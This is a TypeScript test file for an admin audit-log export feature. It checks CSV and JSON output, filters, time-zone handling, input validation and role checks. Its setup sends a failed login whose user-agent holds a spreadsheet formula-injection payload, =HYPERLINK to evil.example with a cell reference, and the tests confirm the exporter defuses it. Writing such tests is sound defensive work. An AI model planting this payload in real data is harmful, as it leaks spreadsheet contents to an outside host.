import { deepEqual, equal, match } from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { csvLine } from '../../lib/routes/csv.ts';
import type { Client } from '../support/http.ts';
import { codeOf, type Site, site } from './site.ts';

let here: Site;
let admin: Client;

before(async () => {
  here = await site();
  admin = await here.signedIn('ada', 'admin');
  const agent = '=HYPERLINK("http://evil.example/?"&A1,"x"), "two"; @SUM(1)';
  const body = new URLSearchParams({ username: 'ada', password: 'wrong' });
  await here.client().send('/auth/login', { method: 'POST', body, headers: { 'user-agent': agent } });
  for (let n = 0; n < 230; n += 1) await here.gate.users.create({ username: `many${n}`, role: 'viewer' });
});
after(() => here[Symbol.asyncDispose]());

async function exported(path: string): Promise<{ answer: Response; text: string }> {
  const answer = await admin.send(`/auth/admin/${path}`);
  return { answer, text: await answer.text() };
}

test('CSV: a head, and a line for each record', async () => {
  const { answer, text } = await exported('audit.csv?event=user.changed');
  equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8');
  match(answer.headers.get('content-disposition') ?? '', /^attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"$/);
  const [head, ...lines] = text.split('\r\n');
  equal(head, '"time","event","actor","via","address","agent","subject","outcome","detail","id"');
  equal(lines.length, 231 + 1, 'one for each user, and the end of the last');
  equal(new Set(lines).size, lines.length);
  match(lines[0] ?? '', /^"20[^"]*Z","user\.changed","","none|command",.*"user:many229","ok",/);
});

test('CSV: what an agent calls itself is no formula', async () => {
  const { text } = await exported('audit.csv?event=login.failed');
  match(text, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\), ""two""; '@SUM\(1\)",/);
});

test('JSON: the records as the API has them, one on each line', async () => {
  const { answer, text } = await exported('audit.json?event=user.changed');
  equal(answer.headers.get('content-type'), 'application/json; charset=utf-8');
  const all = JSON.parse(text) as { id: string; subject: string }[];
  equal(all.length, 231);
  equal(text.split('\n').length, 231 + 3);
  const ofApi = await admin.send('/auth/api/v1/audit?event=user.changed&limit=200');
  deepEqual(all.slice(0, 200), ((await ofApi.json()) as { items: unknown[] }).items);
});

test('a filter under which nothing falls gives a file without records', async () => {
  deepEqual(JSON.parse((await exported('audit.json?actor=nobody')).text), []);
  match((await exported('audit.csv?actor=nobody')).text, /^"time"[^\n]*\r\n$/);
});

test('times are of the zone that is given, and the last minute is in the range', async () => {
  const count = async (query: string) =>
    (JSON.parse((await exported(`audit.json?event=login.failed&${query}`)).text) as unknown[]).length;
  const minute = new Date().toISOString().slice(0, 16);
  equal(await count(`from=2020-01-01T00:00&to=${minute}`), 1);
  equal(await count(`from=2020-01-01T00:00&to=${minute}&zone=Pacific/Kiritimati`), 0);
});

for (const query of [
  'from=yesterday',
  'to=2026-01-01',
  'from=2026-01-01T00:00&zone=Mars',
  `actor=${'x'.repeat(129)}`,
]) {
  test(`?${query.slice(0, 40)} is refused`, async () => {
    equal(await codeOf(await admin.send(`/auth/admin/audit.csv?${query}`)), '400 validation_failed');
  });
}

test('only admins export the log', async () => {
  const olga = await here.signedIn('olga', 'operator');
  for (const path of ['/auth/admin/audit.csv', '/auth/admin/audit.json']) {
    equal(await codeOf(await olga.send(path)), '403 insufficient_role');
    equal(await codeOf(await here.client().send(path)), '401 missing_credential');
  }
});

test('a text is a field of one line, whatever is in it', () => {
  equal(csvLine(['a', '', 'b"c', 'd,e']), '"a","","b""c","d,e"\r\n');
  equal(csvLine(['two\r\nlines', '\u001b[31mred', 'a\u202eb']), '"two  lines"," [31mred","a b"\r\n');
  equal(csvLine(['=1', '+1', '-1', '@a', ' =1', '\uff1d1']), `"'=1","'+1","'-1","'@a"," '=1","'\uff1d1"\r\n`);
  equal(csvLine(['a;=1', 'b, -2', 'c|@d', 'a=1', 'e-f']), `"a;'=1","b, '-2","c|'@d","a=1","e-f"\r\n`);
});
